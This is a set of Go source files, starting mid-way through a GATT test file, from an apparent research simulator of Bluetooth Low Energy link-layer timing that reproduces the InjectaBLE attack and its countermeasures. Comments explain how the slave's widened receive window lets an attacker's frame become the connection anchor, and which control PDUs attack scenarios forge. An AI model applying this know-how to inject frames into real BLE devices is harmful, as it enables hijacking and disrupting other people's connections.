		t.Fatal("no error for missing CCCD")
	}
}

func TestSecureCharacteristicGated(t *testing.T) {
	srv, cli := wire()
	secret := &Characteristic{
		UUID:       att.UUID16(0xFF10),
		Properties: PropRead | PropWrite,
		Value:      []byte{0x42},
		Secure:     true,
	}
	srv.AddService(&Service{UUID: att.UUID16(0xFF0F), Characteristics: []*Characteristic{secret}})
	encrypted := false
	srv.ATT().Encrypted = func() bool { return encrypted }

	var rerr error
	cli.Read(secret.ValueHandle, func(v []byte, err error) { rerr = err })
	if rerr == nil {
		t.Fatal("secure read allowed on plaintext link")
	}
	encrypted = true
	cli.Read(secret.ValueHandle, func(v []byte, err error) { rerr = err })
	if rerr != nil {
		t.Fatalf("secure read failed on encrypted link: %v", rerr)
	}
}

func TestFindCharacteristic(t *testing.T) {
	srv, _ := wire()
	power, _ := bulbServer(srv)
	if srv.FindCharacteristic(att.UUID16(0xFF01)) != power {
		t.Fatal("FindCharacteristic broken")
	}
	if srv.FindCharacteristic(att.UUID16(0xDEAD)) != nil {
		t.Fatal("phantom characteristic")
	}
}

func TestSetValueUpdatesAttribute(t *testing.T) {
	srv, cli := wire()
	power, _ := bulbServer(srv)
	srv.SetValue(power, []byte{0x33})
	var val []byte
	cli.Read(power.ValueHandle, func(v []byte, err error) { val = v })
	if !bytes.Equal(val, []byte{0x33}) {
		t.Fatalf("read after SetValue = % x", val)
	}
}

func TestPropertyString(t *testing.T) {
	p := PropRead | PropNotify
	if p.String() != "read|notify" {
		t.Fatalf("String = %q", p.String())
	}
	if Property(0).String() != "none" {
		t.Fatal("zero property string")
	}
}

func TestServerString(t *testing.T) {
	srv, _ := wire()
	bulbServer(srv)
	if srv.String() == "" {
		t.Fatal("empty String")
	}
}

func TestDynamicReadCharacteristic(t *testing.T) {
	srv, cli := wire()
	n := byte(0)
	counter := &Characteristic{
		UUID:       att.UUID16(0xFF20),
		Properties: PropRead,
		OnRead:     func() []byte { n++; return []byte{n} },
	}
	srv.AddService(&Service{UUID: att.UUID16(0xFF1F), Characteristics: []*Characteristic{counter}})
	var val []byte
	cli.Read(counter.ValueHandle, func(v []byte, err error) { val = v })
	cli.Read(counter.ValueHandle, func(v []byte, err error) { val = v })
	if len(val) != 1 || val[0] != 2 {
		t.Fatalf("dynamic read = % x", val)
	}
}
