package link

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// AdvertiserConfig configures advertising behaviour.
type AdvertiserConfig struct {
	// AdvData is the advertisement payload (≤ 31 bytes of AD structures).
	AdvData []byte
	// ScanData answers active scans.
	ScanData []byte
	// Interval between advertising events; the spec adds a 0–10 ms random
	// delay on top. Zero means 100 ms.
	Interval sim.Duration
}

// Advertiser broadcasts connectable advertisements on channels 37–39 and
// accepts incoming CONNECT_REQ PDUs, yielding slave connections.
type Advertiser struct {
	stack *Stack
	cfg   AdvertiserConfig

	running bool
	chanIdx int
	epoch   uint64 // invalidates stale per-channel timers
	pending []sim.EventRef

	// OnConnect fires when a CONNECT_REQ addressed to us establishes a
	// slave connection.
	OnConnect func(c *Conn)
}

// NewAdvertiser builds an advertiser on the stack.
func NewAdvertiser(stack *Stack, cfg AdvertiserConfig) *Advertiser {
	if cfg.Interval == 0 {
		cfg.Interval = 100 * sim.Millisecond
	}
	return &Advertiser{stack: stack, cfg: cfg}
}

// Start begins advertising.
func (a *Advertiser) Start() {
	if a.running {
		return
	}
	a.running = true
	a.stack.Radio.SetAccessAddress(uint32(ble.AdvertisingAccessAddress))
	a.scheduleEvent(a.stack.RNG.Duration(5 * sim.Millisecond))
}

// Stop ceases advertising (a peripheral stops when connected).
func (a *Advertiser) Stop() {
	a.running = false
	for _, ev := range a.pending {
		a.stack.Sched.Cancel(ev)
	}
	a.pending = a.pending[:0]
	a.stack.Radio.OnFrame = nil
	a.stack.Radio.OnTxDone = nil
	a.stack.Radio.StopListening()
}

func (a *Advertiser) scheduleEvent(d sim.Duration) {
	ev := a.stack.Sched.After(d, a.stack.Name+":adv-event", func() {
		a.chanIdx = 0
		a.advertiseOnNext()
	})
	a.pending = append(a.pending, ev)
}

// advertiseOnNext transmits ADV_IND on the next advertising channel and
// listens briefly for SCAN_REQ / CONNECT_REQ.
func (a *Advertiser) advertiseOnNext() {
	if !a.running || a.stack.Radio.Transmitting() {
		return
	}
	a.epoch++
	if a.chanIdx >= len(phy.AdvChannels()) {
		// Event over; next event after interval + advDelay(0..10 ms).
		a.scheduleEvent(a.cfg.Interval + a.stack.RNG.Duration(10*sim.Millisecond))
		return
	}
	ch := phy.AdvChannels()[a.chanIdx]
	a.chanIdx++
	a.stack.Radio.SetChannel(ch)

	adv := pdu.AdvInd{AdvAddr: a.stack.Address, AdvData: a.cfg.AdvData, ChSel: true}
	frame := advFrame(adv.Marshal())
	a.stack.Radio.OnTxDone = func() {
		a.stack.Radio.OnTxDone = nil
		if !a.running {
			return
		}
		a.stack.Radio.OnFrame = a.onFrame
		a.stack.Radio.StartListening()
		// Listen T_IFS + a CONNECT_REQ air time, then move on.
		window := ble.TIFS + phy.LE1M.AirTime(36) + 20*sim.Microsecond
		epoch := a.epoch
		ev := a.stack.Sched.After(window, a.stack.Name+":adv-rx-close", func() {
			if !a.running || a.epoch != epoch {
				return // a frame arrived and moved the event along
			}
			if a.stack.Radio.Locked() || a.stack.Radio.Acquiring() {
				return
			}
			a.stack.Radio.StopListening()
			a.advertiseOnNext()
		})
		a.pending = append(a.pending, ev)
	}
	a.stack.trace("adv-tx", func() []sim.Field {
		return []sim.Field{sim.F("ch", ch)}
	})
	a.stack.Radio.Transmit(frame)
}

// onFrame handles SCAN_REQ and CONNECT_REQ while advertising.
func (a *Advertiser) onFrame(rx medium.Received) {
	if !a.running {
		return
	}
	a.epoch++ // invalidate the pending rx-close timer for this channel
	if !crc.Check(ble.AdvertisingCRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		a.advertiseOnNext()
		return
	}
	p, err := pdu.UnmarshalAdvPDU(rx.Frame.PDU)
	if err != nil {
		a.advertiseOnNext()
		return
	}
	switch p.Type {
	case pdu.ScanReqType:
		req, err := pdu.UnmarshalScanReq(p.Payload)
		if err != nil || req.AdvAddr != a.stack.Address {
			a.advertiseOnNext()
			return
		}
		rsp := pdu.ScanRsp{AdvAddr: a.stack.Address, ScanData: a.cfg.ScanData}
		frame := advFrame(rsp.Marshal())
		a.stack.Clock.AtLocalOffset(rx.EndAt, ble.TIFS, a.stack.Name+":scan-rsp", func() {
			if !a.running {
				return
			}
			a.stack.Radio.OnTxDone = func() {
				a.stack.Radio.OnTxDone = nil
				a.advertiseOnNext()
			}
			a.stack.Radio.Transmit(frame)
		})
	case pdu.ConnectReqType:
		req, err := pdu.UnmarshalConnectReq(p.Payload)
		if err != nil || req.AdvAddr != a.stack.Address {
			a.advertiseOnNext()
			return
		}
		req.ChSel = p.ChSel // carried in the PDU header
		if err := req.Validate(); err != nil {
			a.stack.trace("connect-req-invalid", func() []sim.Field {
				return []sim.Field{sim.F("err", err.Error())}
			})
			a.advertiseOnNext()
			return
		}
		a.stack.trace("connect-req", func() []sim.Field {
			return []sim.Field{sim.F("from", req.InitAddr.String())}
		})
		a.Stop()
		conn, err := NewSlaveConn(a.stack, FromConnectReq(req), req.InitAddr, rx.EndAt)
		if err != nil {
			a.stack.trace("conn-failed", func() []sim.Field {
				return []sim.Field{sim.F("err", err.Error())}
			})
			return
		}
		if a.OnConnect != nil {
			a.OnConnect(conn)
		}
	default:
		a.advertiseOnNext()
	}
}

// advFrame builds an advertising-channel frame with the fixed AA and CRC
// init.
func advFrame(pduBytes []byte) medium.Frame {
	return medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(ble.AdvertisingAccessAddress),
		PDU:           pduBytes,
		CRC:           crc.Compute(ble.AdvertisingCRCInit, pduBytes),
	}
}

// String implements fmt.Stringer.
func (a *Advertiser) String() string {
	return fmt.Sprintf("Advertiser(%s)", a.stack.Address)
}
