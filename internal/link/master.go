package link

import (
	"injectable/internal/ble"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// NewMasterConn starts the master side of a connection whose CONNECT_REQ
// transmission ended at connReqEnd. The master transmits its first packet
// at the start of the transmit window (eq. 1) and thereafter defines every
// anchor point with its own sleep clock.
func NewMasterConn(stack *Stack, params ConnParams, peer ble.Address, connReqEnd sim.Time) (*Conn, error) {
	c, err := newConn(stack, RoleMaster, params, peer)
	if err != nil {
		return nil, err
	}
	// Master transmits at the beginning of the transmit window.
	offset := ble.ConnUnit + sim.Duration(params.WinOffset)*ble.ConnUnit
	ev := stack.Clock.AtLocalOffset(connReqEnd, offset, stack.Name+":first-anchor", c.masterEvent)
	c.timers = append(c.timers, ev)
	return c, nil
}

// masterEvent runs one connection event from the master side, starting at
// the anchor point (now).
func (c *Conn) masterEvent() {
	if c.closed {
		return
	}
	if c.supervisionExpired() {
		c.close(reasonTimeout)
		return
	}
	if upd := c.applyInstantProcedures(); upd != nil {
		// The new timing applies from this event: the first new anchor sits
		// a transmit-window delay plus offset after the old anchor position.
		c.applyUpdateParams(upd)
		offset := ble.ConnUnit + sim.Duration(upd.WinOffset)*ble.ConnUnit
		ev := c.stack.Clock.AtLocalOffset(c.stack.Sched.Now(), offset,
			c.stack.Name+":updated-anchor", c.masterEventBody)
		c.timers = append(c.timers, ev)
		return
	}
	c.masterEventBody()
}

// masterEventBody transmits the event-opening packet and listens for the
// slave's response.
func (c *Conn) masterEventBody() {
	if c.closed {
		return
	}
	ch := c.selector.ChannelFor(c.eventCount)
	c.stack.Radio.SetChannel(phy.Channel(ch))
	anchor := c.stack.Sched.Now()
	c.lastAnchor = anchor
	c.anchorKnown = true
	c.emitEvent(ch, anchor, false)
	c.stack.trace("anchor", func() []sim.Field {
		return []sim.Field{sim.F("event", c.eventCount), sim.F("ch", ch)}
	})

	frame := c.nextPDU()
	c.awaitingResponse = true
	c.stack.Radio.OnTxDone = func() {
		if c.closed {
			return
		}
		c.stack.Radio.OnTxDone = nil
		if c.pendingClose != nil {
			// The packet just sent acknowledged the slave's
			// LL_TERMINATE_IND; close without listening further.
			c.close(*c.pendingClose)
			return
		}
		c.stack.Radio.StartListening()
		// If the slave's response preamble has not started by
		// T_IFS + preamble+AA + slack, the event is over.
		deadline := ble.TIFS + phy.LE1M.PreambleAATime() + maxResponseWait
		c.schedule(deadline, "no-response", func() {
			if c.closed || !c.awaitingResponse {
				return
			}
			if c.stack.Radio.Locked() || c.stack.Radio.Acquiring() {
				return // reception in progress; onFrame will close the event
			}
			c.awaitingResponse = false
			c.stack.Radio.StopListening()
			c.stack.trace("no-response", func() []sim.Field {
				return []sim.Field{sim.F("event", c.eventCount)}
			})
			c.closeMasterEvent()
		})
	}
	c.stack.Radio.Transmit(frame)
}

// masterOnFrame handles the slave's response within a connection event.
func (c *Conn) masterOnFrame(rx medium.Received) {
	if !c.awaitingResponse {
		return // stray frame outside an event
	}
	c.awaitingResponse = false
	if crcOK(c.params, rx.Frame) {
		c.lastValidRx = c.stack.Sched.Now()
		p, err := unmarshalDataFrame(rx.Frame)
		if err == nil {
			if !c.handleRxPDU(p) {
				return
			}
		}
	} else {
		c.stack.trace("crc-fail", func() []sim.Field {
			return []sim.Field{sim.F("event", c.eventCount)}
		})
	}
	c.closeMasterEvent()
}

// closeMasterEvent advances to the next anchor.
func (c *Conn) closeMasterEvent() {
	if c.closed {
		return
	}
	c.eventCount++
	ev := c.stack.Clock.AtLocalOffset(c.lastAnchor, c.params.IntervalDuration(),
		c.stack.Name+":anchor", c.masterEvent)
	c.timers = append(c.timers, ev)
}
