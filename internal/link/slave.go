package link

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// NewSlaveConn starts the slave side of a connection whose CONNECT_REQ
// reception ended at connReqEnd. The slave opens a receive window over the
// master's transmit window (eq. 1), widened for clock inaccuracy (eq. 4),
// and treats the first matching packet as the first anchor point t₀.
func NewSlaveConn(stack *Stack, params ConnParams, peer ble.Address, connReqEnd sim.Time) (*Conn, error) {
	c, err := newConn(stack, RoleSlave, params, peer)
	if err != nil {
		return nil, err
	}
	c.lastAnchor = connReqEnd // timing reference until the first anchor
	c.scheduleSlaveWindowForTransmitWindow(
		NewTransmitWindow(connReqEnd, params.WinOffset, params.WinSize), connReqEnd)
	return c, nil
}

// ownSCA returns this device's rated sleep-clock accuracy in ppm.
func (c *Conn) ownSCA() float64 { return c.stack.Clock.RatedPPM() }

// scaledWidening applies the stack's countermeasure scale to a widening.
func (c *Conn) scaledWidening(w sim.Duration) sim.Duration {
	return sim.Duration(float64(w) * c.stack.wideningScale())
}

// scheduleSlaveWindowForTransmitWindow opens the receiver over a
// master-chosen transmit window (initial connection or connection update).
func (c *Conn) scheduleSlaveWindowForTransmitWindow(w TransmitWindow, ref sim.Time) {
	span := w.Start.Sub(ref)
	widening := c.scaledWidening(WindowWidening(c.params.MasterSCA.WorstPPM(), c.ownSCA(), span))
	c.ins.onWidening(widening)
	c.setPendingWindow(WindowInitial, span, widening, w.Size)
	openOffset := span - widening
	closeOffset := w.End().Sub(ref) + widening
	ev := c.stack.Clock.AtLocalOffset(ref, openOffset, c.stack.Name+":win-open", func() {
		c.slaveOpenWindow(closeOffset - openOffset)
	})
	c.timers = append(c.timers, ev)
}

// setPendingWindow stages the widening inputs for the next slaveOpenWindow.
func (c *Conn) setPendingWindow(kind WindowKind, span, widening, txWinSize sim.Duration) {
	c.pendingWindow = WindowInfo{
		Kind: kind, Span: span, Widening: widening, TxWinSize: txWinSize,
		MasterPPM: c.params.MasterSCA.WorstPPM(), SlavePPM: c.ownSCA(),
	}
}

// scheduleNextSlaveWindow predicts the next anchor and opens the widened
// receive window around it. Must be called with eventCount already set to
// the upcoming event.
func (c *Conn) scheduleNextSlaveWindow() {
	if c.closed {
		return
	}
	if upd := c.applyInstantProcedures(); upd != nil {
		// Connection update (paper Fig. 2): at the instant, the slave waits
		// for the master inside a fresh transmit window anchored where the
		// old schedule's anchor would have fallen.
		predictedOld := sim.Duration(c.missedEvents+1) * c.params.IntervalDuration()
		c.applyUpdateParams(upd)
		ref := c.lastAnchor
		w := NewTransmitWindow(ref.Add(predictedOld), upd.WinOffset, upd.WinSize)
		span := w.Start.Sub(ref)
		widening := c.scaledWidening(WindowWidening(c.params.MasterSCA.WorstPPM(), c.ownSCA(), span))
		c.ins.onWidening(widening)
		c.setPendingWindow(WindowUpdate, span, widening, w.Size)
		openOffset := span - widening
		closeOffset := w.End().Sub(ref) + widening
		ev := c.stack.Clock.AtLocalOffset(ref, openOffset, c.stack.Name+":upd-win-open", func() {
			c.slaveOpenWindow(closeOffset - openOffset)
		})
		c.timers = append(c.timers, ev)
		return
	}
	// Slave latency: skip events when quiet (paper §III-B.8). Skipping
	// stretches the span since the last anchor, which widens the window —
	// the property the paper notes makes latency > 0 easier to attack.
	if skip := c.latencySkip(); skip > 0 {
		c.eventCount += skip
		c.missedEvents += skip
	}
	span := sim.Duration(c.missedEvents+1) * c.params.IntervalDuration()
	widening := c.currentWidening()
	c.ins.onWidening(widening)
	c.setPendingWindow(WindowSteady, span, widening, 0)
	ev := c.stack.Clock.AtLocalOffset(c.lastAnchor, span-widening, c.stack.Name+":win-open", func() {
		c.slaveOpenWindow(2 * widening)
	})
	c.timers = append(c.timers, ev)
}

// currentWidening returns the receive-window half-width for the upcoming
// event (eq. 4/5).
func (c *Conn) currentWidening() sim.Duration {
	span := sim.Duration(c.missedEvents+1) * c.params.IntervalDuration()
	return c.scaledWidening(WindowWidening(c.params.MasterSCA.WorstPPM(), c.ownSCA(), span))
}

// latencySkip returns how many events the slave may sleep through.
func (c *Conn) latencySkip() uint16 {
	if c.params.Latency == 0 || len(c.txQueue) > 0 || c.inFlight != nil || !c.anchorKnown {
		return 0
	}
	skip := c.params.Latency
	// Never sleep through a procedure instant.
	capToInstant := func(instant uint16) {
		gap := instant - c.eventCount // modular distance to the instant
		if gap < 0x8000 && gap <= skip {
			if gap == 0 {
				skip = 0
			} else {
				skip = gap - 1
			}
		}
	}
	if c.pendingUpdate != nil {
		capToInstant(c.pendingUpdate.Instant)
	}
	if c.pendingChMap != nil {
		capToInstant(c.pendingChMap.Instant)
	}
	return skip
}

// slaveOpenWindow tunes to the event's channel and listens for width.
func (c *Conn) slaveOpenWindow(width sim.Duration) {
	if c.closed {
		return
	}
	if c.supervisionExpired() {
		c.close(reasonTimeout)
		return
	}
	ch := c.selector.ChannelFor(c.eventCount)
	c.stack.Radio.SetChannel(phy.Channel(ch))
	c.stack.Radio.StartListening()
	c.stack.trace("win-open", func() []sim.Field {
		return []sim.Field{sim.F("event", c.eventCount), sim.F("ch", ch), sim.F("width", width.String())}
	})
	c.ins.onWindowOpen(c, ch, width)
	if c.OnWindow != nil {
		w := c.pendingWindow
		w.Event = c.eventCount
		w.Channel = ch
		w.OpenAt = c.stack.Sched.Now()
		w.Width = width
		c.OnWindow(w)
	}
	c.winEpoch++
	epoch := c.winEpoch
	c.schedule(width, "win-close", func() { c.slaveWindowClose(epoch) })
}

// slaveWindowClose fires at the end of the widened receive window. Packets
// whose start fell inside the window are still being received and complete
// normally (the spec constrains only the packet start).
func (c *Conn) slaveWindowClose(epoch uint64) {
	if c.closed || c.winEpoch != epoch {
		return // a frame arrived in this window; the event moved on
	}
	if c.stack.Radio.Locked() {
		return // onFrame will close the event
	}
	if c.stack.Radio.Acquiring() {
		// A preamble that started inside the window is still arriving.
		c.schedule(phy.LE1M.PreambleAATime()+5*sim.Microsecond, "win-close",
			func() { c.slaveWindowClose(epoch) })
		return
	}
	c.stack.Radio.StopListening()
	c.stack.trace("missed-event", func() []sim.Field {
		return []sim.Field{sim.F("event", c.eventCount)}
	})
	c.emitEvent(c.selector.ChannelFor(c.eventCount), 0, true)
	c.eventCount++
	c.missedEvents++
	if !c.anchorKnown && c.missedEvents >= 6 {
		c.close(DisconnectReason{Code: pdu.ErrCodeConnectionFailedToEst, Detail: "no first anchor"})
		return
	}
	c.scheduleNextSlaveWindow()
}

// slaveOnFrame handles a frame received inside the receive window. THIS is
// the window-widening vulnerability: whatever arrives first with the right
// access address becomes the anchor point — the spec has no way to tell
// the legitimate master from an attacker who wins the race (paper §V).
func (c *Conn) slaveOnFrame(rx medium.Received) {
	c.winEpoch++ // invalidate this window's close timer
	anchor := rx.StartAt
	c.ins.onAnchor(c, anchor) // before the state mutates: residual needs the prediction
	c.lastAnchor = anchor
	c.anchorKnown = true
	c.missedEvents = 0
	c.emitEvent(c.selector.ChannelFor(c.eventCount), anchor, false)

	valid := crcOK(c.params, rx.Frame)
	if valid {
		c.lastValidRx = c.stack.Sched.Now()
		p, err := unmarshalDataFrame(rx.Frame)
		if err == nil {
			if !c.handleRxPDU(p) {
				return // connection closed (terminate / MIC failure)
			}
		}
	} else {
		// CRC failure: the frame still resynchronises the anchor, but
		// SN/NESN do not advance — the response repeats the previous NESN,
		// which is exactly what the attacker's success heuristic (eq. 7)
		// observes.
		c.stack.trace("crc-fail", func() []sim.Field {
			return []sim.Field{sim.F("event", c.eventCount)}
		})
		c.ins.onCRCFail()
	}

	// Respond T_IFS after the end of the received frame.
	frame := c.nextPDU()
	ev := c.stack.Clock.AtLocalOffset(rx.EndAt, ble.TIFS, c.stack.Name+":response", func() {
		if c.closed {
			return
		}
		c.stack.Radio.OnTxDone = func() {
			c.stack.Radio.OnTxDone = nil
			if c.closed {
				return
			}
			c.closeSlaveEvent()
		}
		c.stack.Radio.Transmit(frame)
	})
	c.timers = append(c.timers, ev)
}

// closeSlaveEvent ends the event after the response transmission.
func (c *Conn) closeSlaveEvent() {
	if c.pendingClose != nil {
		// Our response carried the acknowledgement of the peer's
		// LL_TERMINATE_IND; the connection may now close.
		c.close(*c.pendingClose)
		return
	}
	c.eventCount++
	c.scheduleNextSlaveWindow()
}

// onFrame dispatches radio deliveries by role.
func (c *Conn) onFrame(rx medium.Received) {
	if c.closed {
		return
	}
	if c.role == RoleMaster {
		c.masterOnFrame(rx)
		return
	}
	c.slaveOnFrame(rx)
}

// unmarshalDataFrame decodes the PDU of an on-air data-channel frame.
func unmarshalDataFrame(f medium.Frame) (pdu.DataPDU, error) {
	p, err := pdu.UnmarshalDataPDU(f.PDU)
	if err != nil {
		return p, fmt.Errorf("link: %w", err)
	}
	return p, nil
}
