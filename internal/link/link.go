// Package link implements the BLE Link Layer state machines on top of the
// simulated radio medium: advertising, scanning/initiating, and the
// connected-mode engine for both Master and Slave roles.
//
// Everything the InjectaBLE paper exploits lives here, implemented to the
// letter of the Core Specification:
//
//   - anchor points and connection events (paper §III-B.5, eq. 2/3);
//   - the transmit window of connection setup and connection update
//     (eq. 1, Fig. 2);
//   - the slave's receive-window widening for sleep-clock inaccuracy
//     (eq. 4/5, Fig. 4) — the vulnerability itself: any frame whose start
//     falls inside the widened window with a matching access address is
//     accepted as the master's and becomes the new anchor point;
//   - SN/NESN acknowledgement and flow control (eq. 6);
//   - the LL control procedures the attack scenarios forge
//     (LL_TERMINATE_IND, LL_CONNECTION_UPDATE_IND, LL_CHANNEL_MAP_IND) and
//     the encryption-start procedure used by the countermeasure study.
//
// Scope note: each connection event carries exactly one master↔slave PDU
// exchange; the MD bit is transmitted (so sniffers see realistic headers)
// but does not extend events with further exchanges. Everything the paper
// measures — the anchor race, widening, SN/NESN retransmission — is
// independent of intra-event continuation, and queued data simply drains
// across subsequent events.
package link

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/csa"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Stack bundles the per-device plumbing every Link Layer role needs.
type Stack struct {
	Name   string
	Sched  *sim.Scheduler
	Clock  *sim.Clock
	RNG    *sim.RNG
	Radio  *medium.Radio
	Tracer sim.Tracer
	// Obs receives link-layer metrics and forensics-ledger events
	// (window widening extents, anchor drift, retransmissions). Nil
	// means no observability instrumentation.
	Obs *obs.Hub
	// Address is the device's own address.
	Address ble.Address
	// WideningScale shrinks (<1) or stretches (>1) this device's slave
	// receive-window widening relative to the spec formula — the paper's
	// first countermeasure proposal (§VIII: "reducing the duration of the
	// widening windows"). Zero means 1.0. The paper also warns the side
	// effect: too small a window breaks legitimate connections; the
	// countermeasure experiments quantify both.
	WideningScale float64
}

// wideningScale returns the effective scale factor.
func (s *Stack) wideningScale() float64 {
	if s.WideningScale <= 0 {
		return 1
	}
	return s.WideningScale
}

// trace emits a trace event tagged with the stack's name.
func (s *Stack) trace(kind string, fields sim.FieldFunc) {
	sim.Emit(s.Tracer, s.Sched.Now(), s.Name, kind, fields)
}

// ConnParams is the full parameter set of a BLE connection, as carried by
// CONNECT_REQ (Table II of the paper).
type ConnParams struct {
	AccessAddress ble.AccessAddress
	CRCInit       uint32
	WinSize       uint8  // × 1.25 ms
	WinOffset     uint16 // × 1.25 ms
	Interval      uint16 // × 1.25 ms — the paper's "Hop Interval"
	Latency       uint16 // slave latency in events
	Timeout       uint16 // supervision timeout × 10 ms
	ChannelMap    ble.ChannelMap
	Hop           uint8
	MasterSCA     ble.SCA
	// CSA2 selects Channel Selection Algorithm #2 (BLE 5.0), negotiated
	// via the ChSel bits of ADV_IND and CONNECT_REQ. The paper evaluates
	// CSA#1 but notes the attack "can be easily adapted" — this flag is
	// that adaptation.
	CSA2 bool
}

// FromConnectReq extracts connection parameters from a CONNECT_REQ PDU.
func FromConnectReq(c pdu.ConnectReq) ConnParams {
	return ConnParams{
		AccessAddress: c.AccessAddress,
		CRCInit:       c.CRCInit,
		WinSize:       c.WinSize,
		WinOffset:     c.WinOffset,
		Interval:      c.Interval,
		Latency:       c.Latency,
		Timeout:       c.Timeout,
		ChannelMap:    c.ChannelMap,
		Hop:           c.Hop,
		MasterSCA:     c.SCA,
		CSA2:          c.ChSel,
	}
}

// IntervalDuration returns the connection interval as a duration (eq. 2).
func (p ConnParams) IntervalDuration() sim.Duration {
	return sim.Duration(p.Interval) * ble.ConnUnit
}

// SupervisionTimeout returns the supervision timeout as a duration.
func (p ConnParams) SupervisionTimeout() sim.Duration {
	return sim.Duration(p.Timeout) * ble.TimeoutUnit
}

// WindowWidening computes the slave receive-window widening (the paper's
// eq. 4):
//
//	w = (SCA_M + SCA_S)/10⁶ × (t_nextAnchor − t_lastAnchor) + 32 µs
//
// scaM and scaS are the two sleep-clock accuracies in ppm and
// sinceLastAnchor is the span between the last observed anchor point and
// the predicted one (equal to the connection interval when no event was
// missed and latency is zero — eq. 5).
func WindowWidening(scaM, scaS float64, sinceLastAnchor sim.Duration) sim.Duration {
	drift := float64(sinceLastAnchor) * (scaM + scaS) * 1e-6
	return sim.Duration(drift) + ble.WindowWideningFloor
}

// TransmitWindow describes the window in which the master's first packet
// of a (new or updated) connection may arrive (the paper's eq. 1):
// Start = reference + 1.25 ms + WinOffset×1.25 ms, width WinSize×1.25 ms.
type TransmitWindow struct {
	Start sim.Time
	Size  sim.Duration
}

// NewTransmitWindow computes the transmit window following a CONNECT_REQ
// whose transmission ended at ref, or a connection-update instant anchor.
func NewTransmitWindow(ref sim.Time, winOffset uint16, winSize uint8) TransmitWindow {
	return TransmitWindow{
		Start: ref.Add(ble.ConnUnit + sim.Duration(winOffset)*ble.ConnUnit),
		Size:  sim.Duration(winSize) * ble.ConnUnit,
	}
}

// End returns the end of the window.
func (w TransmitWindow) End() sim.Time { return w.Start.Add(w.Size) }

// DisconnectReason says why a connection ended.
type DisconnectReason struct {
	// Code is an HCI-style error code (pdu.ErrCode*).
	Code uint8
	// Detail is a human-readable explanation.
	Detail string
}

// String implements fmt.Stringer.
func (r DisconnectReason) String() string {
	return fmt.Sprintf("disconnect(0x%02X: %s)", r.Code, r.Detail)
}

// Common disconnect reasons.
var (
	reasonRemoteTerminated = DisconnectReason{Code: pdu.ErrCodeRemoteUserTerminated, Detail: "remote terminated"}
	reasonTimeout          = DisconnectReason{Code: pdu.ErrCodeConnectionTimeout, Detail: "supervision timeout"}
	reasonMICFailure       = DisconnectReason{Code: pdu.ErrCodeMICFailure, Detail: "MIC failure"}
	reasonLocalTerminated  = DisconnectReason{Code: pdu.ErrCodeRemoteUserTerminated, Detail: "local terminate"}
)

// newSelector builds the channel selection algorithm the connection uses.
func newSelector(params ConnParams) (csa.Selector, error) {
	if params.CSA2 {
		return csa.NewAlgorithm2(params.AccessAddress, params.ChannelMap)
	}
	return csa.NewAlgorithm1(params.Hop, params.ChannelMap)
}

// dataChannelFrame builds the on-air frame for a data PDU under params.
func dataChannelFrame(params ConnParams, p pdu.DataPDU) medium.Frame {
	raw := p.Marshal()
	return medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(params.AccessAddress),
		PDU:           raw,
		CRC:           crc.Compute(params.CRCInit, raw),
	}
}
