package link

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/csa"
	"injectable/internal/ble/pdu"
	"injectable/internal/llcrypt"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// Role is the device's role in a connection.
type Role int

// Connection roles. The spec's Master/Central initiates and times the
// connection; the Slave/Peripheral follows its anchor points.
const (
	RoleMaster Role = iota + 1
	RoleSlave
)

// String implements fmt.Stringer.
func (r Role) String() string {
	if r == RoleMaster {
		return "master"
	}
	return "slave"
}

// EventInfo describes one connection event, for instrumentation.
type EventInfo struct {
	Counter uint16
	Channel uint8
	Anchor  sim.Time
	Missed  bool // slave only: no master frame seen in the receive window
}

// WindowKind says which flavour of receive window a slave opened.
type WindowKind int

// Receive-window kinds.
const (
	// WindowInitial: the widened transmit window after CONNECT_REQ (eq. 1).
	WindowInitial WindowKind = iota + 1
	// WindowUpdate: the widened transmit window at a connection-update
	// instant (paper Fig. 2).
	WindowUpdate
	// WindowSteady: the steady-state window around the predicted anchor
	// (eq. 2/3), half-width per eq. 4/5.
	WindowSteady
)

// String implements fmt.Stringer.
func (k WindowKind) String() string {
	switch k {
	case WindowInitial:
		return "initial"
	case WindowUpdate:
		return "update"
	default:
		return "steady"
	}
}

// WindowInfo describes one slave receive window as it opens, carrying the
// exact inputs of the widening computation (eq. 4/5) so external checkers
// can recompute it independently.
type WindowInfo struct {
	Kind    WindowKind
	Event   uint16 // connection event counter of this window
	Channel uint8
	OpenAt  sim.Time     // when the radio started listening
	Width   sim.Duration // total listening duration scheduled
	// Span is the time between the last timing reference (anchor or
	// CONNECT_REQ end) and the predicted packet start — the
	// sinceLastAnchor term of eq. 4, stretched by missed events per eq. 5.
	Span sim.Duration
	// Widening is the half-window widening actually applied, after the
	// stack's countermeasure scale.
	Widening sim.Duration
	// TxWinSize is the master's transmit-window size (initial/update
	// windows only; zero for steady-state windows).
	TxWinSize sim.Duration
	// MasterPPM and SlavePPM are the two sleep-clock accuracies the
	// widening was computed from (SCA_M worst case, own rated SCA_S).
	MasterPPM, SlavePPM float64
}

// encState tracks the LL encryption-start procedure.
type encState int

const (
	encOff encState = iota
	// encMasterWaitRsp: master sent LL_ENC_REQ, awaiting LL_ENC_RSP.
	encMasterWaitRsp
	// encMasterWaitStartReq: master got LL_ENC_RSP, awaiting LL_START_ENC_REQ.
	encMasterWaitStartReq
	// encMasterWaitStartRsp: master enabled encryption both ways and sent
	// LL_START_ENC_RSP, awaiting the slave's encrypted LL_START_ENC_RSP.
	encMasterWaitStartRsp
	// encSlaveWaitStartRsp: slave sent LL_START_ENC_REQ; RX decryption is
	// on, TX still plaintext, awaiting master's LL_START_ENC_RSP.
